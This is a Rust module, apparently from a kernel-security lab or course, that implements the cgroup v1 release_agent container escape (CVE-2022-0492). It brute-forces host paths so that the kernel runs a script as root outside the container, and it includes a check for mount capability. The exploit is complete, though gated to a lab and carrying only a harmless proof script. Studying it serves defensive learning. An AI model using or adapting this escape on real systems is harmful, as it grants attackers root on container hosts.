//! `release_agent`: cgroup v1's own way to start a program outside (CVE-2022-0492).

use std::fs;
use std::os::unix::fs::PermissionsExt;

use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::sys::signal::{Signal, kill};
use nix::sys::wait::{WaitStatus, waitpid};
use nix::unistd::{ForkResult, Pid, fork, pause};

use super::only_in_kernel_lab;
use super::pattern::outcome;
use crate::told;

const PROGRAM: &str =
    "#!/bin/sh\nroot=${0%/agent}\n{ id -u; readlink /proc/self/ns/pid; } > \"$root/outcome\"\n";

/// The machine was booted a short while ago.
const HIGHEST: u32 = 30_000;

/// How many processes of ours stand beside each other, so that not every number must be tried.
const HERD: u32 = 64;

// ANCHOR: attack
/// When the last process leaves a group with `notify_on_release`, the kernel runs the hierarchy's `release_agent`:
/// as root, in the machine's own namespaces. The path is the host's. What our root is called there we do not know,
/// but `/proc/PID/root` is one of its names for every process of ours, and there are not many PIDs to try.
pub fn agent(_: &[String]) -> Result<String, String> {
    only_in_kernel_lab()?;
    told("write the program", fs::write("/agent", PROGRAM))?;
    told("chmod", fs::set_permissions("/agent", fs::Permissions::from_mode(0o755)))?;
    hierarchy("/tmp/hierarchy")?;
    told("make a group", fs::create_dir_all("/tmp/hierarchy/group"))?;
    told("notify_on_release", fs::write("/tmp/hierarchy/group/notify_on_release", "1"))?;
    let herd = herd()?;
    for pid in (1..HIGHEST).step_by(HERD as usize / 4) {
        let agent = format!("/proc/{pid}/root/agent");
        told("write release_agent", fs::write("/tmp/hierarchy/release_agent", agent))?;
        visit("/tmp/hierarchy/group/cgroup.procs")?;
        if fs::exists("/outcome").unwrap_or(false) {
            break;
        }
    }
    let outcome = outcome("/outcome");
    herd.into_iter().try_for_each(|sheep| told("kill", kill(sheep, Signal::SIGKILL)))?;
    told("remove the group", fs::remove_dir("/tmp/hierarchy/group"))?;
    outcome
}

/// Processes that wait, and whose numbers follow each other.
fn herd() -> Result<Vec<Pid>, String> {
    let one = |_| {
        // SAFETY: this process has one thread; the child waits for its end.
        match told("fork", unsafe { fork() })? {
            ForkResult::Parent { child } => Ok(child),
            ForkResult::Child => loop {
                pause();
            },
        }
    };
    (0..HERD).map(one).collect()
}

/// A process goes into the group, and its end empties it.
fn visit(group: &str) -> Result<(), String> {
    // SAFETY: this process has one thread; the child writes a file and leaves.
    match told("fork", unsafe { fork() })? {
        ForkResult::Child => {
            let entered = fs::write(group, "0").is_ok();
            // SAFETY: ends the child; nothing runs after it.
            unsafe { libc::_exit(i32::from(!entered)) }
        }
        ForkResult::Parent { child } => match told("wait", waitpid(child, None))? {
            WaitStatus::Exited(_, 0) => Ok(()),
            other => Err(format!("enter the group: {other:?}")),
        },
    }
}

/// A hierarchy without controllers takes none from the machine's own. This one is there, as systemd's on older machines.
fn hierarchy(place: &str) -> Result<(), String> {
    told("mkdir", fs::create_dir_all(place))?;
    let options = Some("none,name=old");
    told("mount cgroup", mount(Some("cgroup"), place, Some("cgroup"), MsFlags::empty(), options))
}
// ANCHOR_END: attack

// ANCHOR: may_mount
/// As far as a test on somebody's machine may go: is there a way to the capability at all? In the CVE it was a new
/// user namespace, in which anybody has all of them.
pub fn may_mount(_: &[String]) -> Result<String, String> {
    let place = "/tmp/may-mount";
    told("mkdir", fs::create_dir_all(place))?;
    let direct = mount(Some("tmpfs"), place, Some("tmpfs"), MsFlags::empty(), None::<&str>);
    let by_namespace =
        unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP);
    match (direct, by_namespace) {
        (Err(direct), Err(namespace)) => {
            Err(format!("mount: {direct:?}, unshare user namespace: {namespace:?}"))
        }
        (Ok(()), _) => Ok("we may mount".into()),
        (_, Ok(())) => Ok("we may mount, in a user namespace of our own".into()),
    }
}
// ANCHOR_END: may_mount
